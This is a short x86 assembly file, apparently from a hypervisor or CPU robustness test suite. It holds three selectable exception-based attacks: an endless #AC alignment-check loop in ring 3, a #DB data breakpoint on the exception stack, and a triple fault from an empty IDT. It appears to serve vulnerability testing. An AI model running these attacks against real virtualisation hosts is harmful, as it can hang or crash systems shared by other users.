/* SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only */
/* Attacks by exceptions. */
#include "attack.h"

#if ATTACK_alignment
	/* #AC that is delivered in ring 3, onto the misaligned stack that it was raised for. */
#define CODE3 0x1b
#define DATA3 0x23
#define CR0_AM 0x40000
#define EFLAGS_AC 0x40000
prepare:
	lgdt	table_pointer
	gate	17, user, CODE3
	movb	$0xee, idt + 17 * 8 + 5
	mov	%cr0, %eax
	or	$CR0_AM, %eax
	mov	%eax, %cr0
	ret
attack:	push	$DATA3
	push	$stack_top - 255
	push	$EFLAGS_AC + 2
	push	$CODE3
	push	$user
	iret
user:	pop	%eax
	jmp	user
	.data
	.balign	8
table:	.quad	0
	.quad	0x00cf9b000000ffff
	.quad	0x00cf93000000ffff
	.quad	0x00cffb000000ffff
	.quad	0x00cff3000000ffff
table_pointer:
	.word	table_pointer - table - 1
	.long	table
#elif ATTACK_debug		/* #DB by a data breakpoint on the stack that #DB is pushed on */
prepare:
	mov	$stack_top - 8, %eax
	mov	%eax, %dr0
	mov	$0x000f0303, %eax
	mov	%eax, %dr7
	ret
attack:	push	%eax
	pop	%eax
	ret
#elif ATTACK_triple
prepare: ret
attack:	lidt	no_idt
	int3
no_idt:	.word	0
	.long	0
#else
#error "no such attack"
#endif
